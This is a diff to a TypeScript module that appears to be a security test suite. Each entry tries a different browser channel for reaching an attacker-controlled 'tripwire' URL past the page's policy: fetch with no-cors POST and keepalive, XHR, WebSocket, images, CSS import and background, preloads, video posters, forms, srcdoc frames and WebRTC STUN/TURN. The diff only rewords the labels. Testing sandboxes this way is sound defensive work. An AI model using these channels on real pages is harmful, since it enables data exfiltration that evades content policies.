@@ -10,7 +10,7 @@ const reaching = (
   { ending = '', weakness = 'network' }: { readonly ending?: string; readonly weakness?: string } = {},
 ): Attempt => ({
   id: `network-${id}`,
-  wants: 'tell a server of its own something',
+  wants: "send data to the attacker's server",
   by,
   weakness,
   run: ({ page, tripwire }) => page.evaluate(reach, tripwire.url(`network-${id}${ending}`)),
@@ -25,7 +25,7 @@ const knocking = (
   weakness = 'network',
 ): Attempt => ({
   id: `network-${id}`,
-  wants: 'tell a server of its own something',
+  wants: "send data to the attacker's server",
   by,
   weakness,
   run: async ({ page, tripwire }: Red) =>
@@ -35,14 +35,14 @@ const knocking = (
 
 /** Each function is sent to the page as it stands: nothing outside of it is known there. */
 export const network: AttemptClass = {
-  title: 'From the page to a server of the attacker, past the policy that the page itself enforces',
+  title: 'Connections from the page to a server of the attacker, with the policy of the page switched off',
   together: true,
   attempts: [
     reaching('fetch', 'fetch()', (url) => fetch(url).catch(() => {})),
     reaching('fetch-no-cors', 'fetch() without reading the answer', (url) =>
       fetch(url, { mode: 'no-cors', method: 'POST', body: 'what was found' }).catch(() => {}),
     ),
-    reaching('fetch-keepalive', 'fetch() that outlives the page', (url) =>
+    reaching('fetch-keepalive', 'fetch() with keepalive', (url) =>
       fetch(url, { mode: 'no-cors', keepalive: true }).catch(() => {}),
     ),
     reaching('xhr', 'XMLHttpRequest', (url) => {
@@ -65,14 +65,14 @@ export const network: AttemptClass = {
       const socket = new WebSocket(url.replace('http:', 'ws:'));
       return new Promise((done) => socket.addEventListener('close', () => done(null)));
     }),
-    reaching('image', 'a picture', (url) => {
+    reaching('image', 'an image', (url) => {
       const image = new Image();
       image.src = url;
       return new Promise((done) => image.addEventListener('error', () => done(null)));
     }),
     reaching(
       'svg-image',
-      'a picture inside an SVG',
+      'an image inside an SVG',
       (url) => {
         const holder = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
         const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
@@ -100,7 +100,7 @@ export const network: AttemptClass = {
     ),
     reaching(
       'css-import',
-      'a style that imports another',
+      'a style sheet that imports another',
       (url) => {
         const style = document.createElement('style');
         style.textContent = `@import url("${url}");`;
@@ -112,7 +112,7 @@ export const network: AttemptClass = {
       },
       { ending: '.css' },
     ),
-    reaching('css-background', 'a background of a style', (url) => {
+    reaching('css-background', 'a CSS background', (url) => {
       const box = document.createElement('div');
       box.style.cssText = `position:fixed;width:9px;height:9px;background:url("${url}")`;
       document.body.append(box);
@@ -141,7 +141,7 @@ export const network: AttemptClass = {
     reaching('import', 'import()', (url) => import(url).then(() => {}).catch(() => {}), { ending: '.js' }),
     reaching(
       'module-preload',
-      'a module that is loaded ahead',
+      'a preloaded module',
       (url) => {
         const link = document.createElement('link');
         link.rel = 'modulepreload';
@@ -154,7 +154,7 @@ export const network: AttemptClass = {
       },
       { ending: '.js' },
     ),
-    reaching('prefetch', 'a page that is fetched ahead', (url) => {
+    reaching('prefetch', 'a prefetched page', (url) => {
       const link = document.createElement('link');
       link.rel = 'prefetch';
       link.href = url;
@@ -164,7 +164,7 @@ export const network: AttemptClass = {
         link.addEventListener('load', () => done(null));
       });
     }),
-    reaching('preload', 'a picture that is loaded ahead', (url) => {
+    reaching('preload', 'a preloaded image', (url) => {
       const link = document.createElement('link');
       link.rel = 'preload';
       link.as = 'image';
@@ -175,19 +175,19 @@ export const network: AttemptClass = {
         link.addEventListener('load', () => done(null));
       });
     }),
-    reaching('video', 'a film', (url) => {
+    reaching('video', 'a video', (url) => {
       const video = document.createElement('video');
       video.src = url;
       document.body.append(video);
       return new Promise((done) => video.addEventListener('error', () => done(null)));
     }),
-    reaching('poster', 'the poster of a film', (url) => {
+    reaching('poster', 'the poster of a video', (url) => {
       const video = document.createElement('video');
       video.poster = url;
       document.body.append(video);
       return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
     }),
-    reaching('image-button', 'a picture of a button', (url) => {
+    reaching('image-button', 'an image button', (url) => {
       const button = document.createElement('input');
       button.type = 'image';
       button.src = url;
@@ -239,7 +239,7 @@ export const network: AttemptClass = {
       form.submit();
       return new Promise((done) => setTimeout(done, 300));
     }),
-    reaching('frame-in-frame', 'a picture in a frame of the page’s own text', (url) => {
+    reaching('frame-in-frame', 'an image in a srcdoc frame', (url) => {
       const frame = document.createElement('iframe');
       frame.srcdoc = `<img src="${url}">`;
       document.body.append(frame);
@@ -247,7 +247,7 @@ export const network: AttemptClass = {
     }),
     knocking(
       'web-rtc-udp',
-      'WebRTC, asking a STUN server by UDP',
+      'WebRTC with a STUN server over UDP',
       'udp',
       async (port) => {
         const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
@@ -258,7 +258,7 @@ export const network: AttemptClass = {
       },
       'webrtc',
     ),
-    knocking('web-rtc-tcp', 'WebRTC, asking a TURN server by TCP', 'tcp', async (port) => {
+    knocking('web-rtc-tcp', 'WebRTC with a TURN server over TCP', 'tcp', async (port) => {
       const server = { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'u', credential: 'c' };
       const peer = new RTCPeerConnection({ iceServers: [server] });
       peer.createDataChannel('out');
